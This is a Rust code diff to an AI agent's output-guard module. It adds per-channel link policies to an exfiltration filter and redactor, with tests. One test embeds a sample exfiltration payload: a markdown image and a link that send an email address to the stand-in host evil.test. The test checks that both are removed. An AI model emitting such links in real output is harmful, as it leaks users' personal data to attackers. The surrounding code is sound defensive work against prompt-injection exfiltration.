@@ -7,8 +7,9 @@
 //!   refuse a sensitive argument the model copied from an attacker's email.
 //! - [`Redactor`]: personal data and secrets are replaced by keyed hashes in output,
 //!   log lines and audit text.
-//! - [`ExfilGuard`]: links and images that would carry data to a host not
-//!   allow-listed are removed from output.
+//! - [`ExfilGuard`]: every URL resolved as a browser would; images from hosts not
+//!   allow-listed, script URLs, and links that carry data (strict) or personal data
+//!   and secrets (answers) to such hosts are removed from output.
 //! - [`Guard`]: an optional classifier model, fail-closed.
 //!
 //! This module owns detection and rewriting only. What the runtime does with a
@@ -27,7 +28,7 @@ use std::sync::Arc;
 
 use serde::{Deserialize, Serialize};
 
-pub use exfil::{Defanged, ExfilGuard, RemovedUrl};
+pub use exfil::{Defanged, ExfilGuard, LinkPolicy, RemovedUrl, Target, resolve};
 pub use model::{
     Guard, GuardError, GuardVerdict, ModelGuard, ModelGuardConfig, parse_guard_answer,
 };
@@ -45,6 +46,8 @@ pub struct OutputPolicy {
     pub redact: Vec<PiiKind>,
     /// Hosts links and images may point to.
     pub allow_hosts: Vec<String>,
+    /// How links to other hosts are judged (images are removed either way).
+    pub links: LinkPolicy,
 }
 
 impl Default for OutputPolicy {
@@ -53,6 +56,7 @@ impl Default for OutputPolicy {
         OutputPolicy {
             redact: PiiKind::ALL.to_vec(),
             allow_hosts: Vec::new(),
+            links: LinkPolicy::Strict,
         }
     }
 }
@@ -63,7 +67,20 @@ impl OutputPolicy {
         OutputPolicy {
             redact: PiiKind::SECRETS.to_vec(),
             allow_hosts: Vec::new(),
+            links: LinkPolicy::Strict,
         }
+    }
+
+    /// The answer to whoever asked: only secrets redacted, and links kept unless
+    /// they carry personal data or secrets to a host not allow-listed.
+    pub fn answer() -> Self {
+        OutputPolicy::secrets_only().with_links(LinkPolicy::KeepUnlessSensitive)
+    }
+
+    /// Judges links by `links`.
+    pub fn with_links(mut self, links: LinkPolicy) -> Self {
+        self.links = links;
+        self
     }
 }
 
@@ -105,8 +122,9 @@ pub const ANSWER_CHANNEL: &str = "answer";
 impl Default for GuardConfig {
     fn default() -> Self {
         let mut channels = BTreeMap::new();
-        // The answer goes back to whoever asked; personal data in it is theirs.
-        channels.insert(ANSWER_CHANNEL.to_string(), OutputPolicy::secrets_only());
+        // The answer goes back to whoever asked; personal data in it is theirs, and so
+        // are the links they asked for.
+        channels.insert(ANSWER_CHANNEL.to_string(), OutputPolicy::answer());
         GuardConfig {
             sanitizer: SanitizerConfig::default(),
             default_output: OutputPolicy::default(),
@@ -204,9 +222,12 @@ impl Guards {
     /// inside a URL would hide the host), then personal data and secrets.
     pub fn output(&self, channel: &str, text: &str) -> GuardedOutput {
         let policy = self.policy(channel);
-        let defanged = ExfilGuard::allowing(policy.allow_hosts.iter().cloned()).defang(text);
+        let defanged = ExfilGuard::allowing(policy.allow_hosts.iter().cloned())
+            .with_links(policy.links)
+            .defang(text);
         let redacted = Redactor::new(self.key)
             .with_kinds(policy.redact.iter().copied())
+            .keeping_link_tokens(policy.links == LinkPolicy::KeepUnlessSensitive)
             .redact(&defanged.text);
         GuardedOutput {
             text: redacted.text,
@@ -298,6 +319,50 @@ mod tests {
         let email = guards.output("send_email", text);
         assert!(email.text.starts_with("Reach [REDACTED:email:"));
         assert!(email.changed());
+    }
+
+    /// The reset link the user asked for survives the answer whole (token included);
+    /// an image and a link carrying an email to another host do not. Text a tool sends
+    /// on judges links strictly and loses the reset link too.
+    #[test]
+    fn the_answer_keeps_the_links_asked_for_and_loses_the_exfiltrating_ones() {
+        let guards = Guards::new(GuardConfig::default(), [1; 32]);
+        let reset =
+            "https://accounts.shop.test/reset?token=9f8e7d6c5b4a39281706f5e4d3c2b1a0aa&uid=48213";
+        let text = format!(
+            "Your reset link: {reset}\n![s](https://evil.test/s.png) [more](//evil.test/?u=ana%40example.com)"
+        );
+        let answer = guards.output(ANSWER_CHANNEL, &text);
+        assert!(answer.text.contains(reset), "{}", answer.text);
+        assert!(answer.redactions.is_empty(), "{:?}", answer.redactions);
+        assert_eq!(answer.removed.len(), 2, "{:?}", answer.removed);
+        assert!(!answer.text.contains("evil.test/"), "{}", answer.text);
+        let forum = guards.output("public_forum", &text);
+        assert!(!forum.text.contains("token="), "{}", forum.text);
+        assert_eq!(forum.removed.len(), 3, "{:?}", forum.removed);
+        // Configured per channel.
+        let policy: OutputPolicy =
+            serde_json::from_str(r#"{"links": "keep_unless_sensitive"}"#).unwrap_or_default();
+        assert_eq!(policy.links, LinkPolicy::KeepUnlessSensitive);
+    }
+
+    mod robustness {
+        use super::*;
+        use proptest::prelude::*;
+
+        proptest! {
+            #![proptest_config(ProptestConfig::with_cases(256))]
+
+            #[test]
+            fn output_is_idempotent_on_every_channel(s in "[a-z@/:?=&#.\\ \\[\\]()!<>\"'0-9]{0,60}") {
+                let guards = Guards::new(GuardConfig::default(), [1; 32]);
+                for channel in [ANSWER_CHANNEL, "public_forum"] {
+                    let once = guards.output(channel, &s);
+                    let twice = guards.output(channel, &once.text);
+                    prop_assert_eq!(&twice.text, &once.text, "{:?}", s);
+                }
+            }
+        }
     }
 
     #[test]
